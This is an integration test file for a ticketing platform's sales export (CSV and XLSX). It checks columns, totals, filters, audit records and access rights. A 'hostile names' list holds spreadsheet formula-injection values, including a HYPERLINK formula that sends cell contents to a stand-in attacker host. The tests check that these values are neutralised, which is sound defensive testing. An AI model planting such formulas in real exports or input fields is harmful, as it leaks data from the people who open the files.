import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { type SalesListView } from '@festix/domain/contract';
import { SALES_REPORT_ROWS_HEADER } from '@festix/domain/figures';
import { type Grant } from '@festix/domain/people';
import { ORDER_STATUSES } from '@festix/domain/selling';
import { AccessService } from '../../../kernel/access/access.service.ts';
import { newId } from '../../../kernel/database/ids.ts';
import { auditOf } from '../../../testing/audit.ts';
import { openBook } from '../../../testing/books.ts';
import { makeCoupon } from '../../../testing/coupons.ts';
import { giveCourtesy } from '../../../testing/courtesies.ts';
import { readCsv } from '../../../testing/csv.ts';
import { grant } from '../../../testing/doors.ts';
import { makePerson, type TestPerson } from '../../../testing/people.ts';
import {
  book,
  bookOf,
  bookingBody,
  BUYER,
  buy,
  charge,
  cookieOf,
  payByCard,
  say,
  type TestBooking,
} from '../../../testing/purchases.ts';
import { refundOneTicket } from '../../../testing/refunds.ts';
import { makeSalePoint } from '../../../testing/sale-points.ts';
import { as, makeShow, priceOf, type TestShow } from '../../../testing/shows.ts';
import { useApi } from '../../../testing/use-api.ts';

/** In Manaus it is still the evening before. */
const NOW = '2027-01-10T02:30:00Z';
const ZONE = 'America/Manaus';

const TITLES = [
  ...['Código', 'Situação', 'Detalhe da situação', 'Origem', 'Criada em', 'Paga em'],
  ...['Forma de pagamento', 'Parcelas', 'E-mail', 'Lotes', 'Preços'],
  ...['Ingressos', 'Ingressos válidos', 'Subtotal (R$)', 'Cupom', 'Desconto do cupom (R$)'],
  ...[
    'Taxa de conveniência (R$)',
    'Taxa paga pelo produtor (R$)',
    'Total (R$)',
    'Reembolsado (R$)',
    'Valor líquido (R$)',
    'Entradas',
    'Check-ins',
  ],
];

/** Hostile names, and their form in the file. */
const HOSTILE: [name: string, written: string][] = [
  ['=HYPERLINK("http://mal.example/?"&A1;"clique")', `'=HYPERLINK("http://mal.example/?"&A1;"clique")`],
  ['+5511999999999', "'+5511999999999"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
  ['\t=1+1', "'=1+1"],
  ['\r\n=1+1', "'=1+1"],
  ['Zé; "Ação"\nda Silva 😀', 'Zé; "Ação" da Silva 😀'],
];

const api = useApi();
let show: TestShow;
let producer: TestPerson;
/** Codes of the orders, by status. */
const codes: Record<string, string> = {};

type Query = Record<string, string>;

interface Exported {
  status: number;
  headers: Headers;
  bytes: Buffer;
}

async function exported(
  query: Query = {},
  person: Pick<TestPerson, 'token'> = producer,
  area = 'producer',
): Promise<Exported> {
  const address = `${api.url}/api/${area}/events/${show.id}/orders/export?${new URLSearchParams(query)}`;
  const answer = await fetch(address, { headers: { authorization: `Bearer ${person.token}` } });
  return { status: answer.status, headers: answer.headers, bytes: Buffer.from(await answer.arrayBuffer()) };
}

type Sale = Record<string, string>;

/** Returns the rows of a CSV, each cell by its title. */
async function sales(query: Query = {}): Promise<Sale[]> {
  const { status, bytes } = await exported(query);
  expect(status).toBe(200);
  const [titles = [], ...rows] = readCsv(bytes.toString('utf8').replace(/^\ufeff/, ''));
  return rows.map((row) => {
    expect(row).toHaveLength(titles.length);
    return Object.fromEntries(titles.map((title, at) => [title, row[at] ?? '']));
  });
}

const codesOf = (rows: readonly Sale[]): (string | undefined)[] => rows.map((sale) => sale['Código']);

const centsOf = (amount: string | undefined): number => {
  expect(amount).toMatch(/^-?\d+,\d\d$/);
  return Number(amount?.replace(',', ''));
};

const sumOf = (rows: readonly Sale[], title: string): number =>
  rows.reduce((sum, sale) => sum + centsOf(sale[title]), 0);

async function bookWithCoupon(coupon: string): Promise<TestBooking> {
  const body = { ...bookingBody([[priceOf(show.lots[0]).id, 2]]), coupon };
  const answer = await as(api, null).post(`/api/events/${show.slug}/bookings`, body).expect(201);
  return { order: answer.body, cookie: cookieOf(answer.headers['set-cookie']) };
}

async function makeSales(): Promise<void> {
  const [pista, camarote] = show.lots;
  const [whole, half] = [priceOf(pista).id, priceOf(pista, 1).id];
  await makeCoupon(api, show, { name: 'AMIGOS', percent_off: 10 });
  const discounted = await bookWithCoupon('AMIGOS');
  await say(api, await charge(api, discounted), 'approved').expect(200);
  codes['coupon'] = discounted.order.code;
  codes['booking'] = (await book(api, show, [[whole, 1]])).order.code;
  for (const [status, word] of [
    ['refunded', 'refunded'],
    ['in_mediation', 'in_mediation'],
    ['charged_back', 'charged_back'],
  ] as const) {
    const bought = await buy(api, show, [[whole, 1]]);
    await say(api, bought.payment, word).expect(200);
    codes[status] = bought.order.code;
  }
  const rejected = await book(api, show, [[half, 1]]);
  await say(api, await charge(api, rejected), 'rejected', 'cc_rejected_high_risk').expect(200);
  codes['rejected'] = rejected.order.code;
  const given = await book(api, show, [[half, 1]]);
  await api.request.delete(`/api/orders/${given.order.id}`).set('cookie', given.cookie).expect(204);
  codes['cancelled'] = given.order.code;
  const mixed = await book(api, show, [
    [whole, 2],
    [priceOf(camarote).id, 1],
  ]);
  await payByCard(api, mixed, 'APRO', 12);
  codes['mixed'] = mixed.order.code;
  const partly = await buy(api, show, [[whole, 2]]);
  expect(await refundOneTicket(api, partly.order.id)).toBe(true);
  codes['partly'] = partly.order.code;
  const { operator } = await makeSalePoint(api, show);
  const sold = { id: newId(), event_id: show.id, items: [{ price_id: whole, amount: 1 }], payment_method: 'cash' };
  codes['pdv'] = (await as(api, operator).post('/api/sale-point/orders', sold).expect(201)).body.code;
  await giveCourtesy(api, show);
  await enterFirst(mixed.order.id);
}

/** Admits the first ticket of an order. */
async function enterFirst(orderId: string): Promise<void> {
  const [ticket] = await api.database.query<{ id: string }>(
    'select id from tickets where order_id = $1 order by position limit 1',
    [orderId],
  );
  const body = { id: newId(), ticket_id: ticket?.id };
  await as(api, producer).post(`/api/producer/events/${show.id}/checkins`, body).expect(201);
}

beforeAll(async () => {
  api.clock.moveTo(NOW);
  show = await makeShow(api, { event: { time_zone: ZONE }, lots: [{ name: 'Pista' }, { name: 'Camarote; vip' }] });
  producer = show.producer;
  await makeSales();
}, 60_000);

describe('export of sales', () => {
  it('an export is CSV as Excel in Brazil reads it, in a file named with the local day @V5.4.1', async () => {
    const { status, headers, bytes } = await exported();
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe('attachment; filename="relatorio-vendas-2027-01-09.csv"');
    expect(headers.get('cache-control')).toContain('no-store');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text).not.toContain('\ufeff');
    expect(text.endsWith('\r\n')).toBe(true);
    const lines = text.slice(0, -2).split('\r\n');
    expect(lines.join('')).not.toMatch(/[\r\n]/);
    expect(readCsv(text)[0]).toEqual(TITLES);
    expect(lines.length - 1).toBe(Number(headers.get(SALES_REPORT_ROWS_HEADER)));
  });

  it('an export has paid sales by default, the newest first, and never courtesies', async () => {
    const rows = await sales();
    expect(codesOf(rows)).toEqual([codes['pdv'], codes['partly'], codes['mixed'], codes['coupon']]);
  });

  it.each(ORDER_STATUSES.filter((status) => status !== 'paid'))(
    'an export of %s has that status alone',
    async (status) => {
      expect(codesOf(await sales({ order_status: status }))).toEqual([codes[status]]);
      expect(codesOf(await sales({ status }))).toEqual([codes[status]]);
    },
  );

  it('an export of all has every status, as the list of sales does', async () => {
    const rows = await sales({ order_status: 'all' });
    const list = await as(api, producer).get(`/api/producer/events/${show.id}/orders?status=all&take=100`).expect(200);
    expect(codesOf(rows)).toEqual((list.body as SalesListView).data.map(({ code }) => code));
    expect(new Set(codesOf(rows))).toEqual(new Set(Object.values(codes)));
    expect(rows).toHaveLength(Object.keys(codes).length);
  });

  it('an export has each sale’s amounts, refunds and what is left of it for the producer', async () => {
    const bySale = Object.fromEntries((await sales({ order_status: 'all' })).map((sale) => [sale['Código'], sale]));
    expect(bySale[codes['coupon'] as string]).toEqual({
      Código: codes['coupon'],
      Situação: 'Pago',
      'Detalhe da situação': 'Pagamento aprovado',
      Origem: 'Online',
      'Criada em': expect.stringMatching(/^09\/01\/2027 22:3\d$/),
      'Paga em': expect.stringMatching(/^09\/01\/2027 22:3\d$/),
      'Forma de pagamento': 'Pix',
      Parcelas: '',
      'E-mail': BUYER.email,
      Lotes: 'Pista (2)',
      Preços: 'Inteira R$\u00a0100,00 (2)',
      Ingressos: '2',
      'Ingressos válidos': '2',
      'Subtotal (R$)': '200,00',
      Cupom: 'AMIGOS',
      'Desconto do cupom (R$)': '20,00',
      'Taxa de conveniência (R$)': '18,00',
      'Taxa paga pelo produtor (R$)': '0,00',
      'Total (R$)': '198,00',
      'Reembolsado (R$)': '0,00',
      'Valor líquido (R$)': '180,00',
      Entradas: '0',
      'Check-ins': '',
    });
    expect(bySale[codes['mixed'] as string]).toMatchObject({
      'Forma de pagamento': 'Cartão: Mastercard final 6351',
      Parcelas: '12',
      Lotes: 'Pista (2), Camarote; vip (1)',
      Preços: 'Inteira R$\u00a0100,00 (3)',
      Ingressos: '3',
      Entradas: '1',
      'Check-ins': expect.stringMatching(/^09\/01\/2027 22:3\d$/),
    });
    expect(bySale[codes['partly'] as string]).toMatchObject({
      Ingressos: '2',
      'Ingressos válidos': '1',
      'Total (R$)': '220,00',
      'Reembolsado (R$)': '110,00',
      'Valor líquido (R$)': '100,00',
    });
    expect(bySale[codes['pdv'] as string]).toMatchObject({
      Origem: 'Ponto de venda',
      'E-mail': '',
      'Taxa de conveniência (R$)': '0,00',
      'Taxa paga pelo produtor (R$)': '0,00',
      'Valor líquido (R$)': '100,00',
    });
    expect(bySale[codes['rejected'] as string]).toMatchObject({
      Situação: 'Rejeitado',
      'Detalhe da situação': 'Recusado por segurança; use outro meio',
      'Paga em': '',
      'Ingressos válidos': '0',
      'Valor líquido (R$)': '0,00',
    });
  });

  it('an export’s sums agree with the ledger', async () => {
    const [paid, all] = [await sales(), await sales({ order_status: 'all' })];
    const { online_receipts = 0, till_receipts = 0, convenience_fees = 0 } = await bookOf(api, show);
    expect(sumOf(paid, 'Valor líquido (R$)')).toBe(-online_receipts - till_receipts);
    expect(sumOf(all, 'Valor líquido (R$)')).toBe(-online_receipts - till_receipts);
    const standing = sumOf(paid, 'Total (R$)') - sumOf(paid, 'Reembolsado (R$)');
    expect(standing).toBe(-online_receipts - till_receipts - convenience_fees);
    const overview = await as(api, producer).get(`/api/producer/events/${show.id}/overview`).expect(200);
    expect(overview.body).toMatchObject({
      total_receipt: sumOf(paid, 'Valor líquido (R$)'),
      orders_count: paid.length,
      tickets_count: paid.reduce((sum, sale) => sum + Number(sale['Ingressos válidos']), 0),
    });
  });

  it.each<[Query, string[], Sale]>([
    [{ name: 'true' }, ['Nome'], { Nome: BUYER.name }],
    [{ phone: 'true' }, ['Telefone'], { Telefone: BUYER.phone }],
    [{ event_name: 'true' }, ['Evento'], { Evento: 'Arraial da Lua' }],
    [
      { name: 'true', phone: 'true', event_name: 'true' },
      ['Nome', 'Telefone', 'Evento'],
      { Nome: BUYER.name, Telefone: BUYER.phone, Evento: 'Arraial da Lua' },
    ],
    [{ name: 'false', phone: 'false', event_name: 'false', email: 'false' }, [], {}],
  ])(
    'an export with %j adds the requested columns to the e-mail, which is always there',
    async (query, titles, cells) => {
      const [sale] = await sales({ ...query, order_status: 'refunded' });
      expect(Object.keys(sale ?? {})).toEqual(
        TITLES.flatMap((title) => (title === 'E-mail' ? [title, ...titles] : title)),
      );
      expect(sale).toMatchObject({ 'E-mail': BUYER.email, ...cells });
    },
  );

  it('an export filters as the list does', async () => {
    expect(codesOf(await sales({ sales_type: 'pdv' }))).toEqual([codes['pdv']]);
    expect(codesOf(await sales({ lots: show.lots[1]?.id ?? '' }))).toEqual([codes['mixed']]);
    expect(codesOf(await sales({ query: codes['coupon'] ?? '', filter: 'code' }))).toEqual([codes['coupon']]);
    expect(await sales({ query: 'Ninguém' })).toEqual([]);
    expect((await exported({ query: 'Ninguém' })).headers.get(SALES_REPORT_ROWS_HEADER)).toBe('0');
  });

  it('an export refuses unknown parameters', async () => {
    const unknown: Query[] = [{ format: 'pdf' }, { order_status: 'lost' }, { name: 'yes' }, { document: 'true' }];
    for (const query of unknown) {
      const { status, bytes } = await exported(query);
      expect([query, status, JSON.parse(bytes.toString()).code]).toEqual([query, 400, 'VALIDATION_ERROR']);
    }
  });

  it('an export is recorded with its person and fields, without anybody’s name', async () => {
    const before = (await auditOf(api, show.id, 'orders:export')).length;
    await exported({ format: 'xlsx', name: 'true', query: 'Bia', order_status: 'all', sales_type: 'online' });
    const entries = await auditOf(api, show.id, 'orders:export');
    expect(entries.slice(before)).toEqual([
      expect.objectContaining({
        actor_id: producer.id,
        event_id: show.id,
        after: {
          format: 'xlsx',
          columns: ['email', 'name'],
          statuses: [...ORDER_STATUSES],
          origins: ['online'],
          lots: [],
          searched: true,
          rows: expect.any(Number),
        },
      }),
    ]);
  });
});

describe('hostile names', () => {
  const written = (query: Query) => sales({ ...query, name: 'true', order_status: 'refunded' });

  async function rename(name: string): Promise<void> {
    await api.database.query('update orders set buyer_name = $2 where code = $1', [codes['refunded'], name]);
  }
  afterAll(() => rename(BUYER.name));

  it.each(HOSTILE)('the name %j starts no formula and breaks no line', async (name, harmless) => {
    await rename(name);
    expect((await written({})).map((sale) => sale['Nome'])).toEqual([harmless]);
  });
});

describe('export as a spreadsheet', () => {
  it('a spreadsheet has the same rows in typed cells', async () => {
    const query = { order_status: 'all', name: 'true', phone: 'true' };
    const { headers, bytes } = await exported({ ...query, format: 'xlsx' });
    expect(headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(headers.get('content-disposition')).toBe('attachment; filename="relatorio-vendas-2027-01-09.xlsx"');
    const workbook = await openBook(bytes);
    const sheet = workbook.getWorksheet('Vendas');
    const rows = await sales(query);
    expect(sheet?.rowCount).toBe(rows.length + 1);
    const titles = (sheet?.getRow(1).values as string[]).slice(1);
    expect(titles).toEqual(Object.keys(rows[0] ?? {}));
    const cell = (row: number, title: string) => sheet?.getRow(row + 2).getCell(titles.indexOf(title) + 1);
    for (const [row, sale] of rows.entries()) {
      expect(cell(row, 'Código')?.value).toBe(sale['Código']);
      expect(cell(row, 'Total (R$)')?.value).toBe(centsOf(sale['Total (R$)']) / 100);
      expect(cell(row, 'Total (R$)')?.numFmt).toBe('"R$" #,##0.00');
      expect(cell(row, 'Ingressos')?.value).toBe(Number(sale['Ingressos']));
      const [day, month, year, time] = (sale['Criada em'] ?? '').split(/[/ ]/);
      expect((cell(row, 'Criada em')?.value as Date).toISOString().slice(0, 16)).toBe(
        `${year}-${month}-${day}T${time}`,
      );
      expect(cell(row, 'Telefone')?.value ?? '').toBe(sale['Telefone']);
    }
  });
});

describe('access to the export', () => {
  async function memberWith(...grants: Grant[]): Promise<TestPerson> {
    const member = await makePerson(api, { roles: ['team-member'] });
    await grant(api, show, member, grants);
    api.app.get(AccessService).forget();
    return member;
  }

  it('an export is for members with the grant of sales, and with no other', async () => {
    const seller = await memberWith('sales');
    expect((await exported({}, seller, 'team-member')).status).toBe(200);
    const others = await memberWith('overview', 'checkins', 'payouts', 'lots', 'coupons');
    expect((await exported({}, others, 'team-member')).status).toBe(403);
  });

  it('an export is for super-admins, and refused for support, sale points, customers and other producers', async () => {
    const admin = await makePerson(api, { roles: ['super-admin'] });
    expect((await exported({}, admin, 'super-admin')).status).toBe(200);
    const support = await makePerson(api, { roles: ['support'] });
    expect((await exported({}, support, 'support')).status).toBe(404);
    const { operator } = await makeSalePoint(api, show);
    expect((await exported({}, operator, 'sale-point')).status).toBe(404);
    expect((await exported({}, await makePerson(api))).status).toBe(403);
    expect((await exported({}, await makePerson(api, { roles: ['producer'] }))).status).toBe(404);
    expect((await exported({}, { token: 'nobody' })).status).toBe(401);
  });
});
